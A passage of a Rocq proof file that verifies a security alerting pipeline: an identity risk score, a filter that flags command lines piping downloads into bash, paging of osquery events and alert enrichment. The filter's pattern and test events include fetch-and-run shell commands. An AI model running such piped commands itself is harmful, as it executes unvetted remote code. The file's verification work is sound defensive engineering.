  - apply map_to_list_empty_iff in E. subst d.
    rewrite dom_empty_L. by rewrite bool_decide_eq_true_2.
  - rewrite bool_decide_eq_false_2; [done|].
    intros H. apply dom_empty_iff_L in H. subst d.
    by rewrite map_to_list_empty in E.
Qed.

Lemma dict_truthy_insert (d : dict) (k : string) (v : pyval) :
  dict_truthy (<[k := v]> d) = true.
Proof.
  rewrite dict_truthy_dom, dom_insert_L.
  rewrite bool_decide_eq_false_2; [done|]. set_solver.
Qed.

End Builtins.

(** ** Risk Scorer *)

Section RiskScorer.

Implicit Types (user g : dict) (geo : option dict).

Lemma py_in_strs_elem (v : pyval) (l : list string) :
  py_in_strs v l = match v with VStr s => bool_decide (s ∈ l) | _ => false end.
Proof. destruct v; simpl; auto using existsb_eqb_elem. Qed.

Lemma status_factor user :
  py_in_strs (dict_get user "status" VNone) ["SUSPENDED"; "DEPROVISIONED"]
  = status_risky user.
Proof.
  rewrite py_in_strs_elem. unfold dict_get, status_risky.
  by destruct (user !! "status") as [[]|].
Qed.

Lemma geo_factor geo :
  match geo with
  | Some g => dict_truthy g && negb (py_in_strs (dict_get g "country" VNone) ["US"; "UK"])
  | None => false
  end = unusual_geo geo.
Proof.
  destruct geo as [g|]; [|done].
  unfold unusual_geo, geo_present, country_usual.
  rewrite dict_truthy_dom, py_in_strs_elem. unfold dict_get.
  by destruct (g !! "country") as [[]|].
Qed.

(** The accumulated sum, one term per factor. *)
Lemma risk_sum_terms user geo :
  risk_sum user geo
  = (if status_risky user then 60 else 0)
    + (if negb (truthy (dict_get user "mfa_enabled" (VBool true))) then 20 else 0)
    + (if unusual_geo geo then 20 else 0).
Proof.
  unfold risk_sum. rewrite status_factor, geo_factor.
  destruct (status_risky user), (negb _), (unusual_geo geo); reflexivity.
Qed.


Lemma risk_sum_range user geo : 0 <= risk_sum user geo <= 100.
Proof.
  rewrite risk_sum_terms.
  destruct (status_risky user), (negb _), (unusual_geo geo); lia.
Qed.


(** A geo record that has a field at all counts as present. *)
Lemma geo_present_insert g (k : string) (v : pyval) :
  geo_present (Some (<[k := v]> g)) = true.
Proof.
  unfold geo_present. rewrite dom_insert_L.
  rewrite bool_decide_eq_false_2; [done|]. set_solver.
Qed.



(** C1 (the code departs from this claim). The claim: a geo record that
    carries the error marker [{ip, error}] is scored as an unknown
    location and adds nothing. The code: for the active identity with MFA
    of scenario B, the marker of a timed-out lookup of 8.8.8.8 scores 20,
    while an absent and an empty geo record score 0. *)
Theorem error_marker_geo_adds_risk :
  calculate_identity_risk scenario_b_identity
    (Some (geo_error_marker (VStr "8.8.8.8") "timed out")) = 20
  ∧ calculate_identity_risk scenario_b_identity None = 0
  ∧ calculate_identity_risk scenario_b_identity (Some ∅) = 0.
Proof. by vm_compute. Qed.




(** *** Monotonicity *)

Lemma status_risky_insert user (s : string) :
  s ∈ ["SUSPENDED"; "DEPROVISIONED"] ->
  status_risky (<["status" := VStr s]> user) = true.
Proof.
  intros Hs. unfold status_risky. rewrite lookup_insert_eq.
  by apply bool_decide_eq_true_2.
Qed.

Lemma risk_sum_status_up user geo (s : string) :
  s ∈ ["SUSPENDED"; "DEPROVISIONED"] ->
  risk_sum user geo <= risk_sum (<["status" := VStr s]> user) geo.
Proof.
  intros Hs. rewrite !risk_sum_terms, status_risky_insert by done.
  unfold dict_get. rewrite lookup_insert_ne by done.
  destruct (status_risky user), (negb _), (unusual_geo geo); lia.
Qed.

Lemma risk_sum_mfa_up user geo :
  risk_sum user geo <= risk_sum (<["mfa_enabled" := VBool false]> user) geo.
Proof.
  rewrite !risk_sum_terms.
  replace (status_risky (<["mfa_enabled" := VBool false]> user))
    with (status_risky user)
    by (unfold status_risky; by rewrite lookup_insert_ne).
  unfold dict_get at 2. rewrite lookup_insert_eq. cbn [truthy negb].
  destruct (status_risky user), (negb _), (unusual_geo geo); lia.
Qed.

Lemma unusual_geo_insert g (v : pyval) :
  py_in_strs v ["US"; "UK"] = false ->
  unusual_geo (Some (<["country" := v]> g)) = true.
Proof.
  intros Hv. unfold unusual_geo. rewrite geo_present_insert.
  unfold country_usual. rewrite lookup_insert_eq.
  rewrite py_in_strs_elem in Hv. destruct v; try done. by rewrite Hv.
Qed.

Lemma risk_sum_country_up user g (v : pyval) :
  py_in_strs v ["US"; "UK"] = false ->
  risk_sum user (Some g) <= risk_sum user (Some (<["country" := v]> g)).
Proof.
  intros Hv. rewrite !risk_sum_terms, unusual_geo_insert by done.
  destruct (status_risky user), (negb _), (unusual_geo (Some g)); lia.
Qed.

(** C7. The score never decreases when one risk factor is raised and
    everything else is held fixed: a status outside {SUSPENDED,
    DEPROVISIONED} replaced by one inside, [mfa_enabled] changed from true
    to false, a country in {US, UK} replaced by a value outside; and the
    score always lies in [0,100]. *)
Theorem calculate_identity_risk_monotone :
  (∀ user geo (s : string),
      status_risky user = false -> s ∈ ["SUSPENDED"; "DEPROVISIONED"] ->
      calculate_identity_risk user geo
      <= calculate_identity_risk (<["status" := VStr s]> user) geo)
  ∧ (∀ user geo,
      user !! "mfa_enabled" = Some (VBool true) ->
      calculate_identity_risk user geo
      <= calculate_identity_risk (<["mfa_enabled" := VBool false]> user) geo)
  ∧ (∀ user g (c : string) (v : pyval),
      g !! "country" = Some (VStr c) -> c ∈ ["US"; "UK"] ->
      py_in_strs v ["US"; "UK"] = false ->
      calculate_identity_risk user (Some g)
      <= calculate_identity_risk user (Some (<["country" := v]> g)))
  ∧ (∀ user geo, 0 <= calculate_identity_risk user geo <= 100).
Proof.
  unfold calculate_identity_risk. repeat split.
  - intros user geo s _ Hs. pose proof (risk_sum_status_up user geo s Hs). lia.
  - intros user geo _. pose proof (risk_sum_mfa_up user geo). lia.
  - intros user g c v _ _ Hv. pose proof (risk_sum_country_up user g v Hv). lia.
  - pose proof (risk_sum_range user geo). lia.
  - pose proof (risk_sum_range user geo). lia.
Qed.

Lemma calculate_identity_risk_monotone_witness :
  calculate_identity_risk scenario_b_identity None
  <= calculate_identity_risk (<["status" := VStr "SUSPENDED"]> scenario_b_identity) None
  ∧ calculate_identity_risk scenario_b_identity None
    <= calculate_identity_risk (<["mfa_enabled" := VBool false]> scenario_b_identity) None
  ∧ calculate_identity_risk scenario_b_identity (Some (<["country" := VStr "US"]> ∅))
    <= calculate_identity_risk scenario_b_identity
         (Some (<["country" := VStr "FR"]> (<["country" := VStr "US"]> ∅))).
Proof.
  destruct calculate_identity_risk_monotone as (Hstatus & Hmfa & Hgeo & _).
  split; [|split].
  - apply Hstatus; [by vm_compute | left].
  - apply Hmfa. by vm_compute.
  - apply (Hgeo _ _ "US"); [by vm_compute | left | by vm_compute].
Defined.

(** *** The values the score takes *)

(** C10. The score is always one of 0, 20, 40, 60, 80, 100; the raw sum
    never exceeds 100, which the three factors together reach, so the
    final [min] leaves the sum as it is. *)
Theorem calculate_identity_risk_values user geo :
  calculate_identity_risk user geo ∈ [0; 20; 40; 60; 80; 100]
  ∧ risk_sum user geo <= 100
  ∧ calculate_identity_risk user geo = risk_sum user geo
  ∧ risk_sum scenario_c_identity (Some scenario_c_geo) = 60 + 20 + 20.
Proof.
  assert (Hmin : calculate_identity_risk user geo = risk_sum user geo).
  { unfold calculate_identity_risk. pose proof (risk_sum_range user geo). lia. }
  repeat split.
  - rewrite Hmin, risk_sum_terms.
    destruct (status_risky user), (negb _), (unusual_geo geo);
      cbn [Z.add Pos.add Pos.succ]; set_solver.
  - apply risk_sum_range.
  - exact Hmin.
Qed.

End RiskScorer.

(** ** Strings *)

Section Strings.

Implicit Types (s t needle hay pre mid post : string).

Lemma app_cons (c : ascii) s t : String c s +:+ t = String c (s +:+ t).
Proof. reflexivity. Qed.

Lemma app_nil_l s : "" +:+ s = s.
Proof. reflexivity. Qed.

Lemma str_lower_cons (c : ascii) s :
  str_lower (String c s) = String (ascii_lower c) (str_lower s).
Proof. reflexivity. Qed.

Lemma prefix_spec needle hay :
  String.prefix needle hay = true ↔ ∃ post, hay = needle +:+ post.
Proof.
  revert hay. induction needle as [|c needle IH]; intros [|d hay]; simpl.
  - split; [intros _; by exists ""|done].
  - split; [intros _; by exists (String d hay)|done].
  - split; [done|]. by intros [post ?].
  - destruct (Ascii.ascii_dec c d) as [->|Hne].
    + rewrite IH. split; intros [post H]; exists post;
        rewrite app_cons in *; congruence.
    + split; [done|]. intros [post H]. rewrite app_cons in H. congruence.
Qed.

Lemma str_contains_spec needle hay :
  str_contains needle hay = true ↔ ∃ pre post, hay = pre +:+ needle +:+ post.
Proof.
  induction hay as [|c hay IH]; cbn [str_contains];
    rewrite orb_true_iff, prefix_spec.
  - split.
    + intros [[post H]|?]; [|done]. by exists "", post.
    + intros (pre & post & H). left. destruct pre; [by exists post|done].
  - rewrite IH. split.
    + intros [[post H]|(pre & post & H)].
      * by exists "", post.
      * exists (String c pre), post. rewrite app_cons. congruence.
    + intros (pre & post & H). destruct pre as [|d pre].
      * left. by exists post.
      * right. exists pre, post. rewrite app_cons in H. congruence.
Qed.

Lemma str_lower_app s t : str_lower (s +:+ t) = str_lower s +:+ str_lower t.
Proof.
  induction s as [|c s IH]; [done|].
  rewrite app_cons, !str_lower_cons, app_cons. congruence.
Qed.

Lemma str_lower_split s pre post :
  str_lower s = pre +:+ post ->
  ∃ x y, s = x +:+ y ∧ str_lower x = pre ∧ str_lower y = post.
Proof.
  revert s. induction pre as [|c pre IH]; intros s H.
  - by exists "", s.
  - destruct s as [|d s]; [done|].
    rewrite app_cons, str_lower_cons in H. injection H as Hc Hs.
    destruct (IH s Hs) as (x & y & -> & Hx & Hy).
    exists (String d x), y. rewrite app_cons, str_lower_cons. by rewrite Hc, Hx.
Qed.

(** Every character, by its code. *)
Lemma ascii_enumerated (c : ascii) : In c (map ascii_of_nat (seq 0 256)).
Proof.
  rewrite <- (ascii_nat_embedding c). apply in_map, in_seq.
  pose proof (nat_ascii_bounded c). lia.
Qed.

(** The table of letters against the lowering of the script, checked on
    every pair of characters. *)
Lemma same_letter_table :
  forallb (fun c => forallb (fun d =>
      Bool.eqb (bool_decide (c = d) || bool_decide ((c, d) ∈ letter_pairs)
                || bool_decide ((d, c) ∈ letter_pairs))
               (bool_decide (ascii_lower c = ascii_lower d)))
    (map ascii_of_nat (seq 0 256))) (map ascii_of_nat (seq 0 256)) = true.
Proof. vm_compute. reflexivity. Qed.

(** Lowering identifies exactly the characters that are the same up to
    case. *)
Lemma same_letter_lower (c d : ascii) :
  same_letter c d ↔ ascii_lower c = ascii_lower d.
Proof.
  pose proof same_letter_table as H.
  rewrite forallb_forall in H. specialize (H c (ascii_enumerated c)).
  rewrite forallb_forall in H. specialize (H d (ascii_enumerated d)).
  apply Bool.eqb_prop in H. unfold same_letter.
  rewrite <- (bool_decide_spec (ascii_lower c = ascii_lower d)), <- H.
  rewrite !orb_True, !bool_decide_spec. tauto.
Qed.

Lemma ci_eq_lower s t : ci_eq s t ↔ str_lower s = str_lower t.
Proof.
  revert t. induction s as [|c s IH]; intros [|d t]; cbn [ci_eq str_lower];
    try (split; [done|discriminate]); [done|].
  rewrite same_letter_lower, IH. split.
  - by intros [-> ->].
  - by intros [= -> ->].
Qed.

(** The test of the script is containment up to case. *)
Lemma lower_contains_ci needle hay :
  str_lower needle = needle ->
  str_contains needle (str_lower hay) = true ↔ ci_contains needle hay.
Proof.
  intros Hlow. rewrite str_contains_spec. unfold ci_contains. split.
  - intros (pre & post & H).
    apply str_lower_split in H as (x & y & -> & _ & H).
    apply str_lower_split in H as (m & z & -> & Hm & _).
    exists x, m, z. split; [done|]. apply ci_eq_lower. congruence.
  - intros (pre & mid & post & -> & H). apply ci_eq_lower in H.
    exists (str_lower pre), (str_lower post).
    rewrite !str_lower_app. congruence.
Qed.

End Strings.

(** ** Detection Filter *)

Section DetectionFilter.

Implicit Types (e : pyval) (events r : list pyval).

Lemma is_curl_pipe_bash_event e :
  is_event e ->
  is_curl_pipe_bash e = Ok (str_contains "| bash" (str_lower (cmdline_of e))).
Proof.
  intros (d & -> & [H|[s H]]); unfold is_curl_pipe_bash; simpl;
    unfold dict_get; by rewrite H.
Qed.

Lemma is_curl_pipe_bash_suspicious e :
  is_event e -> is_curl_pipe_bash e = Ok true ↔ suspicious e.
Proof.
  intros He. rewrite is_curl_pipe_bash_event by done.
  unfold suspicious. rewrite <- lower_contains_ci by done.
  split; congruence.
Qed.

Lemma detect_cons e events :
  detect_curl_pipe_bash (e :: events)
  = hit ← is_curl_pipe_bash e;
    rest ← detect_curl_pipe_bash events;
    Ok (if hit : bool then e :: rest else rest).
Proof. reflexivity. Qed.

Lemma detect_selects events :
  Forall is_event events ->
  ∃ r, detect_curl_pipe_bash events = Ok r ∧ selects suspicious events r.
Proof.
  induction 1 as [|e events He _ (r & Hr & Hsel)].
  - exists []. split; [done|constructor].
  - rewrite detect_cons, Hr.
    pose proof (is_curl_pipe_bash_suspicious e He) as Hiff.
    rewrite is_curl_pipe_bash_event in * by done.
    destruct (str_contains _ _); simpl.
    + exists (e :: r). split; [done|]. constructor; [by apply Hiff|done].
    + exists r. split; [done|]. apply selects_drop; [|done].
      intros Hs. apply Hiff in Hs. congruence.
Qed.

(** Every event the filter returns passes its test. *)
Lemma detect_hits events r :
  detect_curl_pipe_bash events = Ok r ->
  Forall (fun e => is_curl_pipe_bash e = Ok true) r.
Proof.
  revert r. induction events as [|e events IH]; intros r; simpl.
  - intros [= <-]. constructor.
  - destruct (is_curl_pipe_bash e) as [hit|] eqn:He; [|done]. simpl.
    destruct (detect_curl_pipe_bash events) as [rest|]; [|done]. simpl.
    intros [= <-]. destruct hit; [constructor|]; auto.
Qed.

(** A list of events that all pass the test is returned whole. *)
Lemma detect_all_hits r :
  Forall (fun e => is_curl_pipe_bash e = Ok true) r ->
  detect_curl_pipe_bash r = Ok r.
Proof.
  induction 1 as [|e r He _ IH]; [done|].
  by rewrite detect_cons, He, IH.
Qed.

(** C6. On a list of events whose [cmdline] fields, when present, are
    strings, the filter does not raise and returns exactly the subsequence
    of the events whose [cmdline], compared case-insensitively, contains
    ["| bash"], a missing [cmdline] counting as the empty string; on the
    two events of scenario A it returns exactly the first, and it keeps a
    command line written in capitals or in mixed case as it keeps the
    lower-case one. *)
Theorem detect_curl_pipe_bash_subsequence events
    (Hev : Forall is_event events) :
  (∃ r, detect_curl_pipe_bash events = Ok r ∧ selects suspicious events r)
  ∧ (∀ d : dict, d !! "cmdline" = None -> detect_curl_pipe_bash [VDict d] = Ok [])
  ∧ detect_curl_pipe_bash scenario_a_events = Ok [scenario_a_first]
  ∧ (∃ third, shouted_events !! 2%nat = Some third
       ∧ detect_curl_pipe_bash shouted_events = Ok [shouted_first; third])
  ∧ suspicious shouted_first.
Proof.
  split; [by apply detect_selects|split; [|split; [|split]]].
  - intros d Hd. simpl. unfold is_curl_pipe_bash. simpl.
    unfold dict_get. by rewrite Hd.
  - by vm_compute.
  - eexists. split; [reflexivity|]. by vm_compute.
  - exists "BASH -C 'CURL X ", "| BASH", "'". split; [reflexivity|].
    cbn [ci_eq]. unfold same_letter.
    repeat split;
      first [by left | right; left; by apply (bool_decide_eq_true_1 _)].
Qed.

Lemma scenario_a_is_event : Forall is_event scenario_a_events.
Proof.
  repeat constructor; eexists; (split; [reflexivity|]); right; eexists;
    by vm_compute.
Defined.

Lemma shouted_are_events : Forall is_event shouted_events.
Proof.
  repeat constructor; eexists; (split; [reflexivity|]); right; eexists;
    by vm_compute.
Qed.

Lemma detect_curl_pipe_bash_subsequence_witness :
  Forall is_event shouted_events
  ∧ ∃ r, detect_curl_pipe_bash shouted_events = Ok r
         ∧ selects suspicious shouted_events r.
Proof.
  split; [exact shouted_are_events|].
  exact (proj1 (detect_curl_pipe_bash_subsequence shouted_events
                  shouted_are_events)).
Defined.

(** C8. Filtering an already filtered list returns it unchanged:
    running the filter on its own result gives the same outcome as
    running it once. *)
Theorem detect_curl_pipe_bash_idempotent events :
  (detect_curl_pipe_bash events ≫= detect_curl_pipe_bash)
  = detect_curl_pipe_bash events.
Proof.
  destruct (detect_curl_pipe_bash events) as [r|e] eqn:Hr; [|done].
  simpl. apply detect_all_hits. by eapply detect_hits.
Qed.

End DetectionFilter.

(** ** Page Fetcher *)

Section PageFetcher.

Implicit Types (resp : response) (e : exn) (params : dict).

Lemma fetch_page_http_error base_url headers params resp :
  400 <= status_code resp <= 599 ->
  snd (fetch_page base_url headers params (Replied resp)) = Ok empty_page.
Proof.
  intros Hst. unfold fetch_page, raise_for_status. cbn [snd].
  replace (Z.leb 400 (status_code resp) && Z.ltb (status_code resp) 600)
    with true by (symmetry; apply andb_true_iff; lia).
  reflexivity.
Qed.

(** Any error of [requests] other than an [HTTPError] gives the demo page. *)
Lemma fetch_page_request_error base_url headers params e :
  is_RequestException e = true -> is_HTTPError e = false ->
  snd (fetch_page base_url headers params (Failed e)) = Ok fallback_page.
Proof. intros Hreq Hhttp. unfold fetch_page. cbn [snd]. by rewrite Hhttp, Hreq. Qed.

Lemma transport_failure_classes e :
  transport_failure e -> is_RequestException e = true ∧ is_HTTPError e = false.
Proof.
  unfold transport_failure, is_RequestException, is_HTTPError.
  by intros [-> | [-> | ->]].
Qed.

(** C3. A response whose status lies in [400,599] makes [fetch_page]
    return the empty page [{events: [], next_cursor: null}]; a
    transport-level failure (connection refused, DNS failure, timeout)
    makes it return the fallback page, which holds exactly two events and
    a null cursor; in both cases it returns and raises nothing. *)
Theorem fetch_page_error_outcomes :
  (∀ base_url headers params resp,
      400 <= status_code resp <= 599 ->
      snd (fetch_page base_url headers params (Replied resp)) = Ok empty_page)
  ∧ (∀ base_url headers params e,
      transport_failure e ->
      snd (fetch_page base_url headers params (Failed e)) = Ok fallback_page)
  ∧ page_of empty_page (Page [] VNone)
  ∧ (∃ first second : pyval,
       page_of fallback_page (Page [first; second] VNone)).
Proof.
  split; [|split; [|split]].
  - apply fetch_page_http_error.
  - intros base_url headers params e [Hreq Hhttp]%transport_failure_classes.
    by apply fetch_page_request_error.
  - eexists. split; [reflexivity|]. by vm_compute.
  - do 2 eexists. eexists. split; [reflexivity|]. by vm_compute.
Qed.

Lemma fetch_page_error_outcomes_witness :
  snd (fetch_page "https://mock.local/osquery" ∅ ∅
         (Replied (Response 503 (Raise (Exn ValueError "no JSON"))))) = Ok empty_page
  ∧ snd (fetch_page "https://mock.local/osquery" ∅ ∅
           (Failed (Exn ConnectionError "connection refused"))) = Ok fallback_page.
Proof.
  destruct fetch_page_error_outcomes as (Hhttp & Htransport & _).
  split.
  - apply Hhttp. simpl. lia.
  - apply Htransport. left. reflexivity.
Defined.

End PageFetcher.

(** ** Pagination Driver *)

Section PaginationDriver.

Variable cfg : config.

Implicit Types (script : list http_reply) (pages : list PageResult)
  (p : PageResult) (net : http_reply) (acc : list pyval) (cursor : pyval)
  (sent : list request).

(** One iteration on a reply that carries the page [p]. *)
Lemma fetch_step_serves acc cursor net p :
  serves net p ->
  snd (fetch_step cfg acc cursor net) = Ok (acc ++ events p, next_cursor p).
Proof.
  intros Hs. unfold fetch_step.
  match goal with |- context [fetch_page ?b ?h ?ps net] =>
    destruct (Hs b h ps) as (data & Hdata & d & -> & Hev & Hcur);
    destruct (fetch_page b h ps net) as [req fetched] end.
  cbn [snd] in *. subst fetched. simpl. by rewrite Hev, Hcur.
Qed.

Lemma truthy_live cursor : cursor_live cursor -> truthy cursor = true.
Proof.
  intros (s & -> & Hs). simpl.
  destruct (String.eqb_spec s ""); [done|reflexivity].
Qed.

Lemma truthy_terminal cursor : cursor_terminal cursor -> truthy cursor = false.
Proof. by intros [-> | ->]. Qed.

Lemma truthy_typed cursor :
  cursor_typed cursor -> truthy cursor = false ↔ cursor_terminal cursor.
Proof.
  intros Hty. split; [|apply truthy_terminal].
  destruct Hty as [-> | [s ->]]; [by left|]. simpl.
  destruct (String.eqb_spec s "") as [->|]; [by right|done].
Qed.

(** The loop from any state, on replies that carry [pages]. *)
Lemma fetch_loop_serves script pages acc cursor (page_num : Z) sent :
  Forall2 serves script pages ->
  let r := fetch_loop cfg script acc cursor page_num sent in
  if exhausts pages then
    run_outcome r = Returned (acc ++ concat (map events (fetched pages)))
    ∧ length (run_requests r) = (length sent + length (fetched pages))%nat
    ∧ run_page_num r = page_num + Z.of_nat (length (fetched pages)) - 1
  else
    run_outcome r = Starved
    ∧ length (run_requests r) = (length sent + length pages)%nat.
Proof.
  intros Hs. revert acc cursor page_num sent.
  induction Hs as [|net p script pages Hp _ IH]; intros acc cursor page_num sent.
  - simpl. split; [done|lia].
  - cbn [fetch_loop exhausts existsb fetched].
    pose proof (fetch_step_serves acc cursor net p Hp) as Hstep.
    destruct (fetch_step cfg acc cursor net) as [req step]. cbn [snd] in Hstep.
    subst step. cbn zeta iota beta.
    destruct (truthy (next_cursor p)) eqn:Hc; cbn [negb orb].
    + specialize (IH (acc ++ events p) (next_cursor p) (page_num + 1) (sent ++ [req])).
      cbn zeta in IH. fold (exhausts pages) in *.
      destruct (exhausts pages).
      * destruct IH as (-> & -> & ->). cbn [map concat length].
        rewrite length_app, <- app_assoc. cbn [length]. repeat split; lia.
      * destruct IH as (-> & ->). rewrite length_app. cbn [length]. split; [done|lia].
    + cbn [run_outcome run_requests run_page_num map concat length].
      rewrite length_app, app_nil_r. cbn [length]. repeat split; lia.
Qed.

(** A chain is fetched to its end and no further. *)
Lemma chain_fetched pages :
  chain pages -> fetched pages = pages ∧ exhausts pages = true.
Proof.
  intros (init & last & -> & Hinit & Hlast).
  apply truthy_terminal in Hlast.
  induction Hinit as [|p init Hp _ [IH1 IH2]]; simpl.
  - by rewrite Hlast.
  - rewrite (truthy_live _ Hp). simpl. split; [by rewrite IH1|done].
Qed.

(** C4. Order preservation: against replies that carry the pages
    [pages], in this order, the driver returns, as soon as a page ends the
    iteration, the concatenation of the events of the pages fetched, page
    after page in fetch order, nothing reordered, dropped or merged; it
    keeps asking for pages while none ends the iteration. *)
Theorem fetch_all_events_order script pages
    (Hserves : Forall2 serves script pages) :
  run_outcome (fetch_all_events cfg script)
  = if exhausts pages then Returned (concat (map events (fetched pages)))
    else Starved.
Proof.
  pose proof (fetch_loop_serves script pages [] VNone 1 [] Hserves) as H.
  cbn zeta in H. fold (fetch_all_events cfg script) in H.
  destruct (exhausts pages); by destruct H as [-> _].
Qed.

(** C5. Termination: against a finite chain of pages, each but the last
    with a non-null, non-empty cursor and the last with a null or empty
    one, the driver returns after exactly one fetch per page; and a cursor
    stops the loop exactly when it is null or the empty string. *)
Theorem fetch_all_events_terminates script pages
    (Hserves : Forall2 serves script pages) (Hchain : chain pages) :
  run_outcome (fetch_all_events cfg script) = Returned (concat (map events pages))
  ∧ length (run_requests (fetch_all_events cfg script)) = length pages
  ∧ run_page_num (fetch_all_events cfg script) = Z.of_nat (length pages)
  ∧ (∀ cursor, cursor_typed cursor ->
       negb (truthy cursor) = true ↔ cursor_terminal cursor).
Proof.
  pose proof (fetch_loop_serves script pages [] VNone 1 [] Hserves) as H.
  cbn zeta in H. fold (fetch_all_events cfg script) in H.
  destruct (chain_fetched pages Hchain) as [Hf He]. rewrite He, Hf in H.
  destruct H as (-> & -> & ->). repeat split; try done; try lia.
  - intros Hc. apply truthy_typed; [done|]. by destruct (truthy cursor).
  - intros Hc. apply truthy_typed in Hc; [|done]. by rewrite Hc.
Qed.

End PaginationDriver.

Section PaginationExample.

(** Every page is carried by some reply. *)
Lemma ok_reply_serves (p : PageResult) : serves (ok_reply p) p.
Proof.
  intros base_url headers params. eexists. split; [reflexivity|].
  eexists. split; [reflexivity|]. unfold dict_get. by simplify_map_eq.
Qed.

Lemma demo_serves : Forall2 serves (map ok_reply demo_pages) demo_pages.
Proof. repeat constructor; apply ok_reply_serves. Qed.

Lemma demo_chain : chain demo_pages.
Proof.
  eexists [_], _. split; [reflexivity|]. split.
  - repeat constructor. by exists "page-2".
  - by left.
Qed.

Lemma fetch_all_events_order_witness :
  Forall2 serves (map ok_reply demo_pages) demo_pages
  ∧ run_outcome (fetch_all_events demo_config (map ok_reply demo_pages))
    = Returned (concat (map events demo_pages)).
Proof.
  split; [exact demo_serves|].
  exact (fetch_all_events_order demo_config _ _ demo_serves).
Defined.

Lemma fetch_all_events_terminates_witness :
  Forall2 serves (map ok_reply demo_pages) demo_pages
  ∧ chain demo_pages
  ∧ length (run_requests (fetch_all_events demo_config (map ok_reply demo_pages)))
    = 2%nat.
Proof.
  split; [exact demo_serves|]. split; [exact demo_chain|].
  exact (proj1 (proj2 (fetch_all_events_terminates demo_config _ _
                         demo_serves demo_chain))).
Defined.

End PaginationExample.

(** ** Enrichment Orchestrator *)

Section Enrichment.

Variable py_repr : pyval -> string.

Implicit Types (w : world) (d a : dict) (l alert : loc) (cfg : api_config).

Lemma bind_run {A B : Type} (c : M A) (k : A -> M B) w :
  (c ≫= k) w
  = match c w with
    | (Ok x, w') => k x w'
    | (Raise e, w') => (Raise e, w')
    end.
Proof. reflexivity. Qed.

Lemma fresh_unused w : heap w !! fresh (dom (heap w)) = None.
Proof. apply not_elem_of_dom, is_fresh. Qed.

(** The mock identity lookup always returns a new record. *)
Lemma get_identity_from_okta_run (user_id : pyval) w :
  ∃ d w', get_identity_from_okta py_repr user_id w = (Ok (fresh (dom (heap w))), w')
    ∧ heap w' = <[fresh (dom (heap w)) := d]> (heap w)
    ∧ geo_net w' = geo_net w.
Proof. do 2 eexists. split; [reflexivity|]. by split. Qed.

(** Closes a goal about a run that ends by allocating its result. *)
Ltac returns_new_record :=
  do 2 eexists; split; [reflexivity|]; split; [done|]; by eexists.

(** Closes a goal about a run in which an exception escapes although the
    service answered, which the status test [Hst] excludes. *)
Ltac escapes_unanswered Hst :=
  do 2 eexists; split; [reflexivity|]; cbn [heap]; split; [done|];
  intros [?|[[? ?]|[? [? ?]]]]; [|congruence..];
  apply andb_false_iff in Hst; lia.

(** The geo lookup returns a new record, or lets an exception escape
    that is not an error of [requests], without touching the store. *)
Lemma get_geoip_info_run cfg (ip : pyval) w :
  ∃ r w', get_geoip_info py_repr cfg ip w = (r, w')
    ∧ match r with
      | Ok l => l = fresh (dom (heap w)) ∧ ∃ d, heap w' = <[l := d]> (heap w)
      | Raise e => heap w' = heap w ∧ ¬ geo_answers (geo_net w)
      end.
Proof.
  unfold get_geoip_info.
  destruct (negb (truthy (VStr (geoip_key cfg)))); [returns_new_record|].
  unfold try_except. rewrite bind_run. unfold requests_get. cbn [geo_net].
  destruct (geo_net w) as [resp|e] eqn:Hnet.
  - rewrite bind_run. unfold lift at 1, raise_for_status.
    destruct (Z.leb 400 (status_code resp) && Z.ltb (status_code resp) 600) eqn:Hst;
      [returns_new_record|].
    rewrite bind_run. unfold lift at 1.
    destruct (json resp) as [data|e] eqn:Hjson.
    + destruct data; first [returns_new_record | escapes_unanswered Hst].
    + destruct (is_RequestException e) eqn:He;
        [returns_new_record | escapes_unanswered Hst].
  - destruct (is_RequestException e) eqn:He; [returns_new_record|].
    do 2 eexists. split; [reflexivity|]. cbn [heap]. split; [done|].
    simpl. congruence.
Qed.

(** A lookup that fails with an error of [requests] returns the error
    marker [{ip, error}]. *)
Lemma get_geoip_info_failure cfg (ip : pyval) w e :
  geoip_key cfg ≠ "" -> geo_net w = Failed e -> is_RequestException e = true ->
  ∃ l w', get_geoip_info py_repr cfg ip w = (Ok l, w')
    ∧ heap w' !! l = Some (geo_error_marker ip (exn_msg e)).
Proof.
  intros Hkey Hnet He. unfold get_geoip_info. cbn [truthy].
  destruct (String.eqb_spec (geoip_key cfg) ""); [done|]. cbn [negb].
  unfold try_except. rewrite bind_run. unfold requests_get. cbn [geo_net].
  rewrite Hnet, He. do 2 eexists. split; [reflexivity|].
  cbn [heap]. apply lookup_insert_eq.
Qed.

(** The keys of the merge beyond the alert's own are the enrichment keys. *)
Lemma enriched_lookup a (k : string) (v1 v2 v3 v4 v5 v6 v7 v8 v9 : pyval) :
  k ∉ enrichment_keys ->
  (<["enrichment_env" := v9]>
   (<["risk_score" := v8]>
    (<["geo_city" := v7]>
     (<["geo_country" := v6]>
      (<["last_login" := v5]>
       (<["mfa_enabled" := v4]>
        (<["user_status" := v3]>
         (<["user_department" := v2]>
          (<["user_email" := v1]> a))))))))) !! k = a !! k.
Proof.
  intros Hk. unfold enrichment_keys in Hk.
  repeat (apply not_elem_of_cons in Hk as [? Hk]).
  by rewrite !lookup_insert_ne by done.
Qed.

Lemma enriched_has_keys a (k : string) (v1 v2 v3 v4 v5 v6 v7 v8 v9 : pyval) :
  k ∈ enrichment_keys ->
  is_Some ((<["enrichment_env" := v9]>
   (<["risk_score" := v8]>
    (<["geo_city" := v7]>
     (<["geo_country" := v6]>
      (<["last_login" := v5]>
       (<["mfa_enabled" := v4]>
        (<["user_status" := v3]>
         (<["user_department" := v2]>
          (<["user_email" := v1]> a))))))))) !! k).
Proof.
  intros Hk. unfold enrichment_keys in Hk.
  repeat (apply elem_of_cons in Hk as [-> | Hk]; [by simplify_map_eq|]).
  by apply elem_of_nil in Hk.
Qed.

(** What a run of [enrich_alert] leaves behind. *)
Lemma enrich_alert_run cfg alert a w :
  heap w !! alert = Some a ->
  ∃ r w', enrich_alert py_repr cfg alert w = (r, w')
    ∧ heap w ⊆ heap w'
    ∧ match r with
      | Ok l =>
          heap w !! l = None
          ∧ ∃ v1 v2 v3 v4 v5 v6 v7 v8 v9,
              heap w' !! l = Some
                (<["enrichment_env" := v9]>
                 (<["risk_score" := v8]>
                  (<["geo_city" := v7]>
                   (<["geo_country" := v6]>
                    (<["last_login" := v5]>
                     (<["mfa_enabled" := v4]>
                      (<["user_status" := v3]>
                       (<["user_department" := v2]>
                        (<["user_email" := v1]> a)))))))))
      | Raise e => ¬ geo_answers (geo_net w)
      end.
Proof.
  intros Halert.
